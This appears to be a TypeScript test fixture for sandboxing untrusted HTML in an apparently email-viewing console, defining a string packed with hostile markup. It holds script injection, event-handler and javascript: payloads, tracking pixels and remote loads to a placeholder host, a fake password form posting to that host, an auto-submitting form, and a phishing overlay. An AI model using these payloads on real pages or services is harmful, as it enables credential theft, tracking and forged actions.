/** Nothing of this host may be asked for. */
export const TRACKER = 'https://tracker.invalid';

/**
 * HTML that tries to run, to leave, to look like the console, to load and to submit. If a script of it ran in the console's
 * origin, it would set `hostile` on a window or change its title.
 */
export const hostileHtml = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${TRACKER}/refresh">
<base href="${TRACKER}/base/">
<link rel="stylesheet" href="${TRACKER}/style.css">
<link rel="prefetch" href="${TRACKER}/prefetch"><link rel="dns-prefetch" href="${TRACKER}">
<style>@import url(${TRACKER}/import.css); body { background: url(${TRACKER}/background.png) } @font-face { font-family: f; src: url(${TRACKER}/font.woff2) } p { font-family: f }</style>
<script>parent.hostile = top.hostile = true; top.document.title = 'owned'; fetch('${TRACKER}/script')</script>
<script src="${TRACKER}/script.js"></script>
</head><body onload="top.hostile = true">
<p>You have won. <a href="${TRACKER}/link" target="_top">Take it</a> <a href="javascript:top.hostile=true">or this</a></p>
<img src="${TRACKER}/open.gif" width="1" height="1"><img src="x" onerror="top.hostile = true">
<img srcset="${TRACKER}/set.png 1x"><picture><source srcset="${TRACKER}/picture.png"><img alt=""></picture>
<svg onload="top.hostile = true"><image href="${TRACKER}/svg.png" /><script>top.hostile = true</script></svg>
<iframe src="${TRACKER}/frame"></iframe><iframe srcdoc="<script>top.hostile = true</script>"></iframe>
<object data="${TRACKER}/object"></object><embed src="${TRACKER}/embed">
<video src="${TRACKER}/video.mp4" poster="${TRACKER}/poster.png" autoplay></video><audio src="${TRACKER}/audio.mp3" autoplay></audio>
<form action="${TRACKER}/form" method="post"><input name="password" autofocus><button>Sign in</button></form>
<form id="auto" action="/emails" method="post"><input name="from" value="x"></form><script>document.getElementById('auto').submit()</script>
<div style="background: url(${TRACKER}/inline.png); position: fixed; inset: 0; z-index: 9999">Your session has ended</div>
<table background="${TRACKER}/table.png"><tr><td>1</td></tr></table>
</body></html>`;
